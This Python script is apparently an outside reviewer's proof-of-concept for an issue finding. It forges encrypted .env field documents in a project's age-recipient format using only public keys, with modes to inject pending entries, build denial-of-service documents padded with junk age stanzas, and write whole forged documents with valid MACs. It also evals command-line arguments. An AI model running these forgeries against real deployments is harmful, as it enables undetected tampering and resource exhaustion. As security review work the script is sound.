#!/usr/bin/python3
"""A forger of field documents encrypted to age recipients (docs/FORMAT.md
§17), written from the docs alone by the outside reviewer of issue 22
(findings 22c: forge.py, pend1.py, dos.py, wholedoc.py), with Debian's
python3-cryptography. It needs only public keys: what anyone who knows the
recipients can write.

usage:
  recipients_forge.py pend DOC NAME VALUE     print an aesp_pending trailer for DOC with one
                                              entry; NAME and VALUE are Python literals
                                              (VALUE may be bytes: not UTF-8 on purpose)
  recipients_forge.py dos DOC ENTRIES STANZAS OUT
                                              DOC + a trailer of ENTRIES entries, each with an
                                              age header of STANZAS stanzas (junk ones first,
                                              then one per recipient), written to OUT
  recipients_forge.py wholedoc OUT RCPTS NAME=LITERAL|ENC ...
                                              a whole .env recipient document (ENC 1: a token
                                              sealing the bytes LITERAL; 0: plaintext); prints its kid
"""
import base64, hashlib, hmac, json, os, re, sys
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305, AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from cryptography.hazmat.primitives import hashes, serialization

CHARSET = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def bech32_polymod(values):
    GEN = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = (chk & 0x1ffffff) << 5 ^ v
        for i in range(5):
            chk ^= GEN[i] if ((b >> i) & 1) else 0
    return chk


def hrp_expand(s):
    return [ord(x) >> 5 for x in s] + [0] + [ord(x) & 31 for x in s]


def convertbits(data, frombits, tobits, pad=True):
    acc = 0; bits = 0; ret = []; maxv = (1 << tobits) - 1
    for value in data:
        acc = (acc << frombits) | value; bits += frombits
        while bits >= tobits:
            bits -= tobits; ret.append((acc >> bits) & maxv)
    if pad and bits:
        ret.append((acc << (tobits - bits)) & maxv)
    return ret


def bech32_decode(s):
    s = s.lower(); pos = s.rfind('1'); hrp = s[:pos]
    data = [CHARSET.find(c) for c in s[pos + 1:]]
    assert bech32_polymod(hrp_expand(hrp) + data) == 1
    return hrp, bytes(convertbits(data[:-6], 5, 8, False))


def bech32_encode(hrp, b):
    data = convertbits(b, 8, 5)
    values = hrp_expand(hrp) + data
    pm = bech32_polymod(values + [0] * 6) ^ 1
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    return hrp + '1' + ''.join(CHARSET[d] for d in data + chk)


def hkdf(ikm, salt, info, n=32):
    return HKDF(algorithm=hashes.SHA256(), length=n, salt=salt, info=info).derive(ikm)


def b64(b):  # age: standard base64 without padding
    return base64.b64encode(b).decode().rstrip('=')


def b64u(b):
    if isinstance(b, str): b = b.encode()
    return base64.urlsafe_b64encode(b).decode().rstrip('=')


def x25519_stanza(recipient, F):
    _, pub = bech32_decode(recipient)
    e = X25519PrivateKey.generate()
    share = e.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    shared = e.exchange(X25519PublicKey.from_public_bytes(pub))
    wk = hkdf(shared, share + pub, b"age-encryption.org/v1/X25519")
    body = ChaCha20Poly1305(wk).encrypt(b"\0" * 12, F, None)
    bb = b64(body)
    lines = [bb[i:i + 64] for i in range(0, len(bb), 64)]
    if len(bb) % 64 == 0: lines.append('')
    return "-> X25519 " + b64(share) + "\n" + "\n".join(lines) + "\n"


def age_header(recipients, F, stanzas=None):
    h = "age-encryption.org/v1\n"
    if stanzas is None:
        stanzas = [x25519_stanza(r, F) for r in recipients]
    h += "".join(stanzas) + "---"
    mac = hmac.new(hkdf(F, b"", b"header"), h.encode(), hashlib.sha256).digest()
    return (h + " " + b64(mac) + "\n").encode()


def pend_entry(name, value, recipients, doc_id, Fp=None, hdr=None):
    Fp = Fp or os.urandom(16)
    hdr = hdr if hdr is not None else age_header(recipients, Fp)
    Kp = hkdf(Fp, b"", b"aes-payload v2 recipients data key")
    kt = hkdf(Kp, b"", b"aes-payload v2 field token")
    nonce = os.urandom(12)
    aad = ("aesp:2:pend:" + doc_id + ":" + b64u(name) + ":" + b64u(hdr)).encode()
    ct = AESGCM(kt).encrypt(nonce, value.encode() if isinstance(value, str) else value, aad)
    return ":".join([b64u(name), b64u(hdr), b64u(nonce), b64u(ct[:-16]), b64u(ct[-16:])])


def trailer(entries):
    return "aesp:2:pend:" + ".".join(entries)


def doc_id_of(text):
    return re.search(r'aesp:2:doc:(?:all|enc):[0-9a-f]{16}:([A-Za-z0-9_-]{22}):', text).group(1)


def recipients_of(text):
    return re.search(r'aesp:2:rcpt:([a-z0-9_]+):', text).group(1).split('_')


def pend(doc, name, value):
    text = open(doc).read()
    print(trailer([pend_entry(eval(name), eval(value), recipients_of(text), doc_id_of(text))]))


def dos(doc, nent, nst, out):
    t = open(doc).read(); rc = recipients_of(t); did = doc_id_of(t)
    junk_r = bech32_encode('age', X25519PrivateKey.generate().public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw))
    ents = []
    for e in range(nent):
        Fp = os.urandom(16)
        junk = x25519_stanza(junk_r, os.urandom(16))
        st = [junk] * (nst - len(rc)) + [x25519_stanza(r, Fp) for r in rc]
        ents.append(pend_entry('V%d' % e, 'x', rc, did, Fp=Fp, hdr=age_header(rc, Fp, stanzas=st)))
    open(out, 'w').write(t + 'aesp_pending=' + trailer(ents) + '\n')


def wholedoc(out, rcpts, args):
    rc = rcpts.split(',')
    items = [(a.split('=', 1)[0], eval(a.split('=', 1)[1].rsplit('|', 1)[0]), a.rsplit('|', 1)[1] == '1') for a in args]
    F = os.urandom(16); K = hkdf(F, b"", b"aes-payload v2 recipients data key")
    kid = hashlib.sha256(b"aes-payload kid v1\n" + K).hexdigest()[:16]
    did = b64u(os.urandom(16)); Kt = hkdf(K, b"", b"aes-payload v2 field token"); Km = hkdf(K, b"", b"aes-payload v2 document mac")
    lines = []; model = []
    for name, pt, enc in items:
        if enc:
            n = os.urandom(12); aad = ("aesp:2:A256GCM:%s:%s:%s" % (kid, did, json.dumps([name], separators=(',', ':')))).encode()
            ct = AESGCM(Kt).encrypt(n, pt, aad)
            tok = "aesp:2:A256GCM:%s:%s:%s:%s" % (kid, b64u(n), b64u(ct[:-16]), b64u(ct[-16:]))
            lines.append("%s=%s" % (name, tok)); model.append((name, tok))
        else:
            lines.append("%s=%s" % (name, pt.decode())); model.append((name, pt.decode()))
    ents = sorted(model, key=lambda e: json.dumps([e[0]], separators=(',', ':'), ensure_ascii=False).encode())
    M = "aesp:2:doc:all:%s:%s\n" % (kid, did) + "".join("[%s,%s]\n" % (json.dumps([k], separators=(',', ':'), ensure_ascii=False), json.dumps(v, ensure_ascii=False)) for k, v in ents)
    mac = hmac.new(Km, M.encode(), hashlib.sha256).digest()
    lines.append("aesp=aesp:2:doc:all:%s:%s:%s" % (kid, did, b64u(mac)))
    hb = b64u(age_header(rc, F)); rl = "_".join(rc)
    lm = hmac.new(hkdf(F, b"", b"aes-payload v2 recipients mac"), ("aesp:2:rcpt:" + rl + ":" + hb).encode(), hashlib.sha256).digest()
    lines.append("aesp_recipients=aesp:2:rcpt:%s:%s:%s" % (rl, hb, b64u(lm)))
    open(out, 'w').write("\n".join(lines) + "\n")
    print(kid)


if __name__ == '__main__':
    cmd = sys.argv[1]
    if cmd == 'pend':
        pend(*sys.argv[2:5])
    elif cmd == 'dos':
        dos(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5])
    elif cmd == 'wholedoc':
        wholedoc(sys.argv[2], sys.argv[3], sys.argv[4:])
    else:
        sys.exit('unknown command ' + cmd)
